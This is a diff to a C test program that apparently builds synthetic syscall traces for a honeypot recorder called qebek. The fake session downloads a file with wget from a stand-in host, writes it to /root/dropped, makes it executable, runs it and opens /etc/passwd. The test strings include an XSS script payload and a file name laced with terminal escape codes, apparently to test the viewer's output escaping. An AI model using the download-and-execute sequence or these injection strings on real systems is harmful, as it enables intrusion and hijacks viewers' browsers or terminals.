@@ -11,13 +11,19 @@
 #include "build.h"
 #include "trace/file.h"
 
-#define SCRIPT "</script><script>document.title='owned'</script><img src=x onerror=document.title='owned'>"
+#define EVIL    "evil\x1b[31m\n\xff\\" SCRIPT
+#define FETCHED "#!/bin/sh <b>\n"
+#define SCRIPT  "</script><script>document.title='owned'</script><img src=x onerror=document.title='owned'>"
 
 enum {
     NR_READ = 0,
     NR_WRITE = 1,
+    NR_CLOSE = 3,
+    NR_PWRITE = 18,
     NR_CONNECT = 42,
     NR_ACCEPT = 43,
+    NR_SENDTO = 44,
+    NR_RECVFROM = 45,
     NR_CLONE = 56,
     NR_EXECVE = 59,
     NR_UNLINK = 87,
@@ -104,7 +110,52 @@ static void contacts(uint64_t thread, uint64_t result)
     uint64_t call = build__enter(&b, thread, NR_CONNECT, 3, (uint64_t[]){5, 0x7000, 16});
 
     address(0x7000, 0xc6336407 /* 198.51.100.7 */, 80, 1);
+    if (result == 0) {
+        struct qbk_object *socket = build__socket(&b, thread, 5, 78, 7);
+
+        memcpy(socket->peer_address, (const uint8_t[]){198, 51, 100, 7}, 4);
+        socket->peer_port = 80;
+    }
     build__return(&b, thread, call, QBK_END_RETURNED, result);
+}
+
+static void moved(uint64_t thread, uint32_t nr, uint64_t fd, const char *bytes)
+{
+    uint64_t n = strlen(bytes), call = build__enter(&b, thread, nr, 4, (uint64_t[]){fd, 0x1000, n, 0});
+    bool reads = nr == NR_RECVFROM;
+
+    if (!reads)
+        build__snippet(&b, QBK_SNIP_MEM, 0x1000, bytes, (uint32_t)n, n, 0, 1, 0);
+    build__return(&b, thread, call, QBK_END_RETURNED, n);
+    if (reads)
+        build__snippet(&b, QBK_SNIP_MEM, 0x1000, bytes, (uint32_t)n, n, 0, 1, 0);
+}
+
+static void hostile_file(uint64_t thread)
+{
+    static const char path[] = "/root/" EVIL;
+    struct qbk_object *file = build__object(&b, thread, 6, 501);
+
+    file->file = 0xffff888000004000u;
+    file->mode = 0100644;
+    path_call(thread, NR_OPENAT, EVIL, 1, 01101 /* for writing, made, emptied */, 6);
+    build__snippet(&b, QBK_SNIP_FD, 6, path, sizeof(path) - 1, sizeof(path) - 1, 0, 0xff, 0);
+}
+
+/* What was asked for comes, and becomes a file. */
+static void fetches(uint64_t thread)
+{
+    struct qbk_object *file;
+
+    moved(thread, NR_SENDTO, 5, "GET /a%20b HTTP/1.1\r\nHost: 198.51.100.7\r\nUser-Agent: Wget\r\n\r\n");
+    moved(thread, NR_RECVFROM, 5, "HTTP/1.1 200 OK\r\nContent-Length: 12\r\n\r\n" FETCHED);
+    file = build__object(&b, thread, 8, 500);
+    file->file = 0xffff888000003000u;
+    file->mode = 0100644;
+    path_call(thread, NR_OPENAT, "dropped", 1, 01101 /* for writing, made, emptied */, 8);
+    build__snippet(&b, QBK_SNIP_FD, 8, "/root/dropped", 13, 13, 0, 0xff, 0);
+    moved(thread, NR_PWRITE, 8, FETCHED);
+    build__return(&b, thread, build__enter(&b, thread, NR_CLOSE, 1, (uint64_t[]){8}), QBK_END_RETURNED, 0);
 }
 
 /* What sshd gives to and takes from the terminal that it made: what is typed, and what is seen. */
@@ -167,7 +218,8 @@ static void works(bool with_terminal)
     run(2, "/bin/wget", (const char *const[]){"wget", "http://198.51.100.7/a b", SCRIPT, NULL}, 0);
     contacts(2, (uint64_t)-115);
     contacts(2, 0);
-    path_call(2, NR_OPENAT, "evil\x1b[31m\n\xff\\" SCRIPT, 1, 01101 /* for writing, made, emptied */, 6);
+    hostile_file(2);
+    fetches(2);
     path_call(2, NR_OPENAT, "/etc/passwd", 1, 0, 7);
     path_call(2, NR_CHMOD, "/root/dropped", 0, 0755, 0);
     run(2, "/root/dropped", (const char *const[]){"./dropped", "it's", "\xe2\x80\xae", "", NULL}, 0);
@@ -205,7 +257,8 @@ int main(int argc, char **argv)
     if (!writer)
         return 2;
     build__init(&b);
-    build__meta(&b, "qebek", "test", "calls", argv[2], "string_limit", "4096", "fd_names", "yes", NULL);
+    build__meta(&b, "qebek", "test", "calls", argv[2], "string_limit", "4096", "fd_names", "yes", "objects", "yes",
+                NULL);
     build__guest(&b, "os", "linux", "release", "6.1 <b>", "how", "test", NULL);
     build__thread(&b, 1, 100, "sshd");
     comes();
